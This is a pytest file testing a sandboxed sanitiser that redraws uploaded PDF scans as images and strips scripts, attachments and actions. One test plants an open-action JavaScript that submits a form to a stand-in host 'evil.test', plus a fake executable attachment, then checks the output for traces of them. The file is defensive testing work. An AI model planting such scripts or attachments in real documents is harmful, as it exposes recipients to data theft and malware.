"""Scanned papers are drawn page by page into a new PDF; nothing else of the file comes along."""

import io

import pypdf
import pytest
from PIL import Image
from pypdf.actions import JavaScript
from pypdf.annotations import FreeText
from pypdf.generic import ArrayObject, FloatObject, NameObject
from reportlab.pdfgen.canvas import Canvas

from papers_child import process_paper
from photos import MAX_PAPER_PAGES, ProcessedPaper, process_file
from sandbox import MEBIBYTE, Refused, Sandbox, SandboxFailed

A4 = (595.3, 841.9)


@pytest.fixture(scope="module")
def sandbox():
    with Sandbox(children=1) as pool:
        yield pool


def paper(pages=1, size=A4, words="secret words"):
    stream = io.BytesIO()
    canvas = Canvas(stream, pagesize=size)
    for page in range(pages):
        canvas.drawString(50, 50, f"{words} {page}")
        canvas.rect(0, size[1] / 2, size[0], size[1] / 2, fill=1)
        canvas.showPage()
    canvas.save()
    return stream.getvalue()


def changed(data, change):
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(data))
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def refusal_of(data):
    with pytest.raises(Refused) as caught:
        process_paper(data)
    return caught.value


def read(made):
    return pypdf.PdfReader(io.BytesIO(made.pdf))


def test_a_scan_becomes_a_pdf_of_pictures_with_as_many_pages(sandbox):
    made = process_file(paper(3), sandbox)

    assert isinstance(made, ProcessedPaper)
    assert made.page_count == 3 == len(read(made).pages)
    assert [float(side) for side in read(made).pages[0].mediabox[2:]] == pytest.approx(A4, abs=1)
    assert read(made).pages[0].extract_text() == ""
    assert len(read(made).pages[0].images) == 1
    assert b"secret words" not in made.pdf


def test_the_first_page_is_the_picture_of_a_paper():
    small = Image.open(io.BytesIO(process_paper(paper()).small.jpeg))

    assert small.size == (424, 600)
    assert small.getpixel((200, 100)) < (60, 60, 60)
    assert small.getpixel((200, 500)) > (200, 200, 200)


def test_the_same_paper_sent_twice_is_the_same_file():
    data = paper(2)

    assert process_paper(data) == process_paper(data)
    assert process_paper(data).sha256 != process_paper(paper(2, words="other")).sha256


def test_scripts_attached_files_and_actions_stay_behind():
    def poison(writer):
        writer.add_open_action(JavaScript("app.alert('hello'); this.submitForm('http://evil.test');"))
        writer.add_attachment("tool.exe", b"MZ-evil-payload")
        writer.add_annotation(0, FreeText(text="a note", rect=(10, 10, 90, 60)))

    made = process_paper(changed(paper(), poison))

    for trace in (b"JavaScript", b"OpenAction", b"EmbeddedFile", b"evil", b"/Annot", b"/AA", b"/Launch"):
        assert trace not in made.pdf


def test_a_pdf_locked_with_a_password_is_refused():
    assert refusal_of(changed(paper(), lambda writer: writer.encrypt("1234"))).code == "paper_locked"


def test_a_pdf_that_only_forbids_printing_is_taken():
    data = changed(paper(), lambda writer: writer.encrypt("", owner_password="1234"))

    assert process_paper(data).page_count == 1


def test_a_pdf_without_pages_is_refused():
    stream = io.BytesIO()
    pypdf.PdfWriter().write(stream)

    assert refusal_of(stream.getvalue()).code in {"paper_without_pages", "paper_broken"}


def test_a_page_more_than_the_most_is_refused_and_the_most_is_taken(sandbox):
    assert process_file(paper(MAX_PAPER_PAGES), sandbox).page_count == 30

    refusal = refusal_of(paper(MAX_PAPER_PAGES + 1))
    assert (refusal.code, refusal.params) == ("paper_too_many_pages", {"pages": 30})


def test_ten_thousand_pages_are_refused_before_any_is_drawn():
    def many(writer):
        page = writer.pages[0]
        for _ in range(300):
            writer.add_page(page)

    assert refusal_of(changed(paper(), many)).code == "paper_too_many_pages"


@pytest.mark.parametrize(
    "data", [b"%PDF-1.7", b"%PDF-1.7\n" + bytes(500), paper()[:400], b"%PDF-1.7 <html>"], ids=range(4)
)
def test_a_pdf_that_is_none_or_cut_short_is_refused(data):
    assert refusal_of(data).code in {"paper_broken", "paper_without_pages"}


def test_a_giant_page_becomes_an_a3_of_2000_pixels():
    made = process_paper(paper(size=(14_000, 7_000)))

    page = read(made).pages[0]
    assert [round(float(side)) for side in page.mediabox[2:]] == [1191, 596]
    assert page.images[0].image.size == (2000, 1000)


@pytest.mark.parametrize("box", [(0, 0, 0, 0), (0, 0, 1, 5), (0, 0, 5e8, 1)])
def test_a_page_without_a_size_breaks_nothing(box):
    def squeeze(writer):
        writer.pages[0][NameObject("/MediaBox")] = ArrayObject([FloatObject(side) for side in box])

    try:
        made = process_paper(changed(paper(), squeeze))
    except Refused as refusal:
        assert refusal.code in {"paper_broken", "paper_too_heavy"}  # noqa: PT017 - both answers are good
    else:
        assert made.page_count == 1


class Broken:
    """A sandbox whose child ends in one way."""

    def __init__(self, kind):
        self.kind = kind

    def run(self, *_args, **_options):
        raise SandboxFailed(self.kind)


@pytest.mark.parametrize("kind", ["memory", "timeout"])
def test_a_paper_too_heavy_for_a_child_is_refused_in_words(kind):
    with pytest.raises(Refused) as caught:
        process_file(paper(), Broken(kind))

    assert caught.value.code == "paper_too_heavy"


def test_a_paper_that_breaks_its_child_is_no_fault_of_the_sender():
    with pytest.raises(SandboxFailed):
        process_file(paper(), Broken("crash"))


def test_zero_bytes_and_too_many_are_refused_by_their_size():
    assert refusal_of(b"").code == "photo_empty"
    assert refusal_of(b"%PDF-" + bytes(15 * MEBIBYTE)).code == "photo_too_large"
